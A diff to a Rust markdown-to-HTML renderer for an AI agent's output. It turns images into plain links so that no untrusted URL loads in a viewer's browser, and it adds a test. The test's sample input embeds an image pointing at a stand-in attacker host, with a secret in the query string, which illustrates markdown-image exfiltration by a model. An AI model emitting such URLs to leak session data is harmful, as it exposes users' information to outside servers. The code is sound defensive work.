@@ -1,8 +1,10 @@
 //! The agent's text as HTML, with pulldown-cmark (CommonMark plus tables, strikethrough and task
 //! lists). The text comes from a model, so it is untrusted: raw HTML is shown as text, never
-//! interpreted, and links or images with a script-capable scheme lose their target.
+//! interpreted; links with a script-capable scheme lose their target; and an image becomes a
+//! link to it (its alt text), so nothing loads in a viewer's browser unless they click (an
+//! image would tell its server who reads the session, and what the model put in its URL).
 
-use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag};
+use pulldown_cmark::{html, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd};
 
 /// Renders markdown to HTML that is safe to put in the page.
 pub fn to_html(markdown: &str) -> String {
@@ -13,9 +15,10 @@ pub fn to_html(markdown: &str) -> String {
         Event::Start(Tag::Link { link_type, dest_url, title, id }) => {
             Event::Start(Tag::Link { link_type, dest_url: safe_url(dest_url), title, id })
         }
-        Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
-            Event::Start(Tag::Image { link_type, dest_url: safe_url(dest_url), title, id })
+        Event::Start(Tag::Image { dest_url, title, id, .. }) => {
+            Event::Start(Tag::Link { link_type: LinkType::Inline, dest_url: safe_url(dest_url), title, id })
         }
+        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
         other => other,
     });
     let mut out = String::with_capacity(markdown.len() * 3 / 2);
@@ -47,6 +50,17 @@ mod tests {
         assert!(html.contains("<strong>world</strong>"));
         assert!(html.contains("<pre><code class=\"language-rust\">fn main() {}\n</code></pre>"));
         assert!(html.contains("<table>"));
+    }
+
+    #[test]
+    fn images_become_links_and_load_nothing() {
+        let html = to_html("See ![the chart](https://evil.example/track.png?secret=abc) here");
+        assert!(!html.contains("<img"), "{html}");
+        assert!(
+            html.contains(r#"href="https://evil.example/track.png?secret=abc">the chart</a>"#),
+            "{html}"
+        );
+        assert!(!to_html("![x](data:image/png;base64,AAAA)").contains("data:"));
     }
 
     #[test]
